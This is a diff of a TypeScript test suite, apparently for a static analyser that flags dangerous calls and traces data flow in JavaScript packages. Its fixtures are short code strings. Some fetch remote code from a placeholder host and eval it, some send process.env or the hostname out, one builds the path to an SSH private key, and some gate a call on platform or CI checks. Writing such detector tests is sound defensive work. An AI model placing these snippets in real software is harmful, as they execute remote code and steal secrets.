@@ -76,19 +76,26 @@ describe('a call is known under every spelling', () => {
   for (const [how, code] of SPELLINGS) {
     it(how, () => {
       const uses = usesOf(code, how === 'type syntax' ? 'index.ts' : 'index.js');
-      assert.ok(uses.some(use => use === `call fs:unlinkSync(x)`), uses.join('\n'));
+      assert.ok(
+        uses.some(use => use === `call fs:unlinkSync(x)`),
+        uses.join('\n'),
+      );
     });
   }
 });
 
 describe('what is not outside is not taken for it', () => {
-  it('a local name shadows a global', () => assert.deepEqual(usesOf(`function f(fetch) { fetch('x'); } const eval2 = () => {}; eval2('x')`), []));
-  it('a local require is not the loader', () => assert.deepEqual(read(`function require(x) { return {}; } require('fs').unlinkSync('x')`).links, []));
-  it('comments and strings are not code', () => assert.deepEqual(usesOf(`/* require('fs').unlinkSync('x') */ const s = "src/*"; // eval('x')`), []));
+  it('a local name shadows a global', () =>
+    assert.deepEqual(usesOf(`function f(fetch) { fetch('x'); } const eval2 = () => {}; eval2('x')`), []));
+  it('a local require is not the loader', () =>
+    assert.deepEqual(read(`function require(x) { return {}; } require('fs').unlinkSync('x')`).links, []));
+  it('comments and strings are not code', () =>
+    assert.deepEqual(usesOf(`/* require('fs').unlinkSync('x') */ const s = "src/*"; // eval('x')`), []));
 });
 
 describe('values', () => {
-  const valueOf = (expression: string): string | undefined => read(`sink(${expression})`).uses.find(use => use.path === 'sink')?.args[0]?.text;
+  const valueOf = (expression: string): string | undefined =>
+    read(`sink(${expression})`).uses.find(use => use.path === 'sink')?.args[0]?.text;
   const cases: readonly (readonly [string, string])[] = [
     [`'a' + 1 + \`b\``, 'a1b'],
     [`require('path').join(require('os').homedir(), '.ssh', 'id_rsa')`, '<home>/.ssh/id_rsa'],
@@ -123,28 +130,49 @@ describe('origins', () => {
     return (use?.args ?? []).flatMap(arg => arg.from).map(index => `${uses[index]?.module}:${uses[index]?.path}`);
   };
   const cases: readonly (readonly [string, string, string, string])[] = [
-    ['a callback', `require('https').get('https://a.invalid', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); })`, 'eval', 'https:get'],
+    [
+      'a callback',
+      `require('https').get('https://a.invalid', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); })`,
+      'eval',
+      'https:get',
+    ],
     ['a promise', `fetch('https://a.invalid').then(r => r.text()).then(t => eval(t))`, 'eval', ':fetch'],
     ['await', `const r = await fetch('https://a.invalid'); const t = await r.text(); eval(t)`, 'eval', ':fetch'],
     ['an object', `const d = { e: process.env }; fetch('https://a.invalid', { body: JSON.stringify(d) })`, 'fetch', ':process.env'],
     ['a list', `const l = []; l.push(require('os').hostname()); fetch('https://a.invalid', { body: l.join() })`, 'fetch', 'os:hostname'],
-    ['a function of the file', `const get = () => process.env; function send(x) { fetch('https://a.invalid', { body: x }); } send(get())`, 'fetch', ':process.env'],
+    [
+      'a function of the file',
+      `const get = () => process.env; function send(x) { fetch('https://a.invalid', { body: x }); } send(get())`,
+      'fetch',
+      ':process.env',
+    ],
     ['a loop', `for (const v of Object.values(process.env)) fetch('https://a.invalid/' + v)`, 'fetch', ':process.env'],
-    ['a class member', `class A { take() { this.e = process.env; } send() { fetch('https://a.invalid', { body: this.e }); } }`, 'fetch', ':process.env'],
+    [
+      'a class member',
+      `class A { take() { this.e = process.env; } send() { fetch('https://a.invalid', { body: this.e }); } }`,
+      'fetch',
+      ':process.env',
+    ],
   ];
   for (const [through, code, sink, origin] of cases) {
     it(`travel through ${through}`, () => assert.ok(originsOf(code, sink).includes(origin), originsOf(code, sink).join()));
   }
   it('do not jump between neighbours', () => {
-    assert.deepEqual(originsOf(`const h = require('os').hostname(); console.log(h); fetch('https://a.invalid', { body: 'ping' })`, 'fetch'), []);
+    assert.deepEqual(
+      originsOf(`const h = require('os').hostname(); console.log(h); fetch('https://a.invalid', { body: 'ping' })`, 'fetch'),
+      [],
+    );
   });
 });
 
 describe('guards', () => {
   const guardsOf = (code: string): string[] =>
-    read(code).uses.find(use => use.path === 'sink')?.guards.map(guard => `${guard.holds ? '' : 'not '}${guard.kind} ${guard.value}`) ?? [];
+    read(code)
+      .uses.find(use => use.path === 'sink')
+      ?.guards.map(guard => `${guard.holds ? '' : 'not '}${guard.kind} ${guard.value}`) ?? [];
   it('of a platform test', () => assert.deepEqual(guardsOf(`if (process.platform === 'win32') sink()`), ['platform win32']));
-  it('of an early return', () => assert.deepEqual(guardsOf(`function f() { if (process.platform !== 'win32') return; sink(); } f()`), ['platform win32']));
+  it('of an early return', () =>
+    assert.deepEqual(guardsOf(`function f() { if (process.platform !== 'win32') return; sink(); } f()`), ['platform win32']));
   it('of a constant', () => assert.deepEqual(guardsOf(`const w = require('os').platform() === 'win32'; w && sink()`), ['platform win32']));
   it('of a switch', () => assert.deepEqual(guardsOf(`switch (process.platform) { case 'darwin': sink() }`), ['platform darwin']));
   it('of the environment', () => assert.deepEqual(guardsOf(`if (!process.env.CI) { sink() }`), ['not environment CI']));
